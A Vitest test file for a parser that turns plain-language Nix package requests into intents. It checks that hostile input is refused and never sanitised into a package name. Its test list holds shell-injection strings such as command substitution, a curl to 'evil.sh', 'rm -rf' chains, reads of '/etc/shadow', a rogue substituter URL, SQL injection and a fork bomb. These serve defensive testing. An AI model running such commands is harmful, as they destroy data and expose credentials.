/**
 * Shell syntax in a request is never cleaned into an innocent-looking package: either nothing
 * mutating is understood, or a package word fails the attribute-path check (so the pipeline refuses it).
 */
import { describe, expect, it } from "vitest"
import { checkPackageName } from "../../src/domain/AttrPath.js"
import { isMutating } from "../../src/domain/Intent.js"
import { parseRequest } from "../../src/domain/parse/parseRequest.js"

const hostile = [
  "install $(whoami)", "install `$(id)`", "install `id; rm -rf ~`", "install firefox; rm -rf ~", "install firefox && reboot",
  "install firefox | tee log", "install --option foo bar", "install -f evil.nix", "install ../../etc/passwd",
  "remove ${HOME}", "install firefox > /dev/null", "install firefox < input", "update $(curl evil.sh)",
  "try cowsay; reboot", "give me a shell with python3; rm -rf /", "rm -rf ~", "sudo rm -rf /",
  "install ~/evil", "install /etc/shadow", "install ./local.nix", "install a\\b", "install *",
  "uninstall firefox;", "install --impure", "install -iA nixpkgs.hello --option substituters http://evil"
]

describe("hostile words", () => {
  it.each(hostile)("%s is refused, not sanitised", (text) => {
    const u = parseRequest(text)
    if (!isMutating(u.intent)) return
    const pkgs = "packages" in u.intent ? u.intent.packages : []
    expect(pkgs.some((p) => checkPackageName(p) !== undefined), JSON.stringify(pkgs)).toBe(true)
  })

  it("keeps the hostile word exactly as written", () => {
    expect(parseRequest("install $(whoami)").intent).toMatchObject({ _tag: "install", packages: ["$(whoami)"] })
    expect(parseRequest("install `$(id)`").intent).toMatchObject({ packages: ["`$(id)`"] })
  })

  it("pasted shell prompts and quotes around names are fine", () => {
    expect(parseRequest("$ nix-env -iA nixpkgs.htop").intent).toMatchObject({ _tag: "install", packages: ["htop"] })
    expect(parseRequest("install \"firefox\"").intent).toMatchObject({ _tag: "install", packages: ["firefox"] })
    expect(parseRequest("install 'git'").intent).toMatchObject({ _tag: "install", packages: ["git"] })
  })

  it("SQL and fork bombs are not requests", () => {
    expect(parseRequest("'; DROP TABLE packages; --").intent._tag).toBe("unknown")
    expect(parseRequest(":(){ :|:& };:").intent._tag).toBe("unknown")
  })

  it("never throws on odd input", () => {
    for (const t of ["", " ", "\t", "🙂", "ÿ", "x".repeat(10_000), "install ".repeat(500), "a, , , and and & ,", "(((", "]]]", "{pkgs}", "{n}", "xkeptx0x", "install xkeptx3x"]) {
      expect(() => parseRequest(t)).not.toThrow()
    }
  })

  it("names of Object.prototype's members are words like any other", () => {
    // The word tables are object literals: a plain table[word] answered "constructor" with a function,
    // and "install constructor" crashed the CLI with a TypeError.
    for (const w of ["constructor", "__proto__", "toString", "hasOwnProperty", "valueOf", "isPrototypeOf"]) {
      for (const t of [`install ${w}`, `remove ${w}`, `what provides ${w}`, `${w}: command not found`, `enable ${w}`]) {
        const u = parseRequest(t)
        const pkgs = "packages" in u.intent ? u.intent.packages : []
        expect(pkgs.every((p) => typeof p === "string"), t).toBe(true)
      }
    }
    const u = parseRequest("install constructor")
    expect(u.intent._tag).toBe("unknown")
    expect(u.notes.join(" ")).toContain("\"constructor\" is an ordinary word")
  })

  it("parses the longest allowed requests in bounded time, whatever their shape", () => {
    const mk = (w: string) => (w + " ").repeat(Math.floor(9990 / (w.length + 1))).trim()
    for (const t of [
      "install " + mk("firefox"), "what is " + mk("the"), mk("broke") + " go", mk("vim or"), mk("* broke *"),
      "give me a shell with " + mk("x with"), "bash " + mk("rg") + " command not found", mk("i we want need")
    ]) {
      const start = performance.now()
      parseRequest(t)
      expect(performance.now() - start, t.slice(0, 40)).toBeLessThan(1_000)
    }
  })
})
